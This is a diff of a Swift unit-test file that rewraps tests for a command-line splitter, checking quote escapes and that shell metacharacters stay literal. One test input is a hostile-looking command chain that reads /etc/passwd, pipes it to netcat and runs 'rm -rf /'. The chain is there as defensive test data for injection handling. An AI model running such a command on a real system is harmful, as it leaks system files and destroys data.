@@ -15,7 +15,8 @@ struct CommandLineSplitTests {
 
     @Test("inside double quotes a backslash escapes only \" \\ $ ` and newline")
     func split_DoubleQuoteEscapes() throws {
-        #expect(try CommandLineSplitter.split(#""a\"b" "c\\d" "\$x" "\`y\`" "\n\t""#) == [#"a"b"#, #"c\d"#, "$x", "`y`", #"\n\t"#])
+        #expect(
+            try CommandLineSplitter.split(#""a\"b" "c\\d" "\$x" "\`y\`" "\n\t""#) == [#"a"b"#, #"c\d"#, "$x", "`y`", #"\n\t"#])
         #expect(try CommandLineSplitter.split("\"line\\\ncontinued\"") == ["linecontinued"])
         #expect(try CommandLineSplitter.split("one\\\ntwo") == ["onetwo"])
     }
@@ -27,11 +28,15 @@ struct CommandLineSplitTests {
 
     @Test("shell metacharacters are ordinary argument bytes")
     func split_MetacharactersAreLiteral() throws {
-        #expect(try CommandLineSplitter.split("cat /etc/passwd | nc x 1 ; rm -rf / && echo $(id) `id` > out < in 2>&1 &")
-            == ["cat", "/etc/passwd", "|", "nc", "x", "1", ";", "rm", "-rf", "/", "&&", "echo", "$(id)", "`id`",
-                ">", "out", "<", "in", "2>&1", "&"])
-        #expect(try CommandLineSplitter.split("ls * ?.txt [ab] ~ #comment a=b {x,y}")
-            == ["ls", "*", "?.txt", "[ab]", "~", "#comment", "a=b", "{x,y}"])
+        #expect(
+            try CommandLineSplitter.split("cat /etc/passwd | nc x 1 ; rm -rf / && echo $(id) `id` > out < in 2>&1 &")
+                == [
+                    "cat", "/etc/passwd", "|", "nc", "x", "1", ";", "rm", "-rf", "/", "&&", "echo", "$(id)", "`id`",
+                    ">", "out", "<", "in", "2>&1", "&",
+                ])
+        #expect(
+            try CommandLineSplitter.split("ls * ?.txt [ab] ~ #comment a=b {x,y}")
+                == ["ls", "*", "?.txt", "[ab]", "~", "#comment", "a=b", "{x,y}"])
         #expect(try CommandLineSplitter.split("echo;id") == ["echo;id"])
     }
 
